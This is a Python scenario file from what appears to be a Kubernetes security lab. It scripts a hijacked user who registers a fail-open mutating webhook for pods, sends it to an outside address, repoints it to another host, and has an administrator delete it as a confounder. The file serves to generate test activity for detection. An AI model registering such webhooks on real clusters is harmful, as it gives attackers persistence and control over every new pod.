"""A mutating webhook at an address outside is registered for all pods, and fails open."""

from lab.story import Scenario, Stage

_PATH = "/apis/admissionregistration.k8s.io/v1/mutatingwebhookconfigurations"


def _play(stage: Stage) -> None:
    thief = stage.hijack("frank")
    name = stage.word("sidecar-defaults", "pod-labels")
    hook = {
        "name": "pods.defaults.example.net",
        "admissionReviewVersions": ["v1"],
        "sideEffects": "None",
        "failurePolicy": "Ignore",
        "timeoutSeconds": 1,
        "clientConfig": {"url": "https://192.0.2.200/mutate"},
        "namespaceSelector": {"matchLabels": {"team": "shop"}},
        "rules": [{"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}],
    }
    kind = "MutatingWebhookConfiguration"
    body = {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": kind,
        "metadata": {"name": name},
        "webhooks": [hook],
    }
    with stage.step("register the webhook", thief, "persistence", ("G05",)):
        stage.must(stage.create(thief, body))
    with stage.step("point it elsewhere", thief, "persistence", ("G05",)):
        value = [{"op": "replace", "path": "/webhooks/0/clientConfig/url", "value": "https://192.0.2.201/m"}]
        thief.patch(f"{_PATH}/{name}", value, "application/json-patch+json")
    with stage.step("the administrator removes it", "kubernetes-admin", kind="confounder"):
        stage.admin().delete(f"{_PATH}/{name}")


SCENARIO = Scenario(
    "mutating-webhook",
    "A mutating webhook for persistence",
    "attack",
    "see and change every pod of the shop",
    ("T1546",),
    _play,
)
